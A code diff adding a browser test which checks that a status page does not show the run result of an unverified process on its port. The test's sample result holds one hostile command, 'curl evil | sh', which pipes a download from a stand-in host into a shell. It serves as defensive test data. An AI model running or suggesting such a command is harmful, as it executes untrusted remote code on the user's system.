@@ -84,6 +84,17 @@ def test_the_page_follows_the_run_to_its_end(shown, run):
     assert all(url.startswith(shown.server.url) for url in shown.asked)
 
 
+def test_the_page_shows_nothing_of_another_process_at_its_port(shown, run):
+    page, expect = shown.page, playwright.expect
+    expect(page.locator("#connection")).to_be_hidden()
+    own, shown.server.proof = shown.server.proof, "a guess"
+    run.ended, run.result = "failed", "run this command: curl evil | sh"
+    expect(page.locator("#connection")).to_be_visible()
+    expect(page.locator("#headline")).not_to_contain_text("curl")
+    shown.server.proof = own  # the control: with its proof the page shows it
+    expect(page.locator("#headline")).to_contain_text("curl")
+
+
 def test_the_page_says_that_its_server_is_gone_and_that_a_status_is_unreadable(shown, run):
     page, expect = shown.page, playwright.expect
     expect(page.locator("#connection")).to_be_hidden()
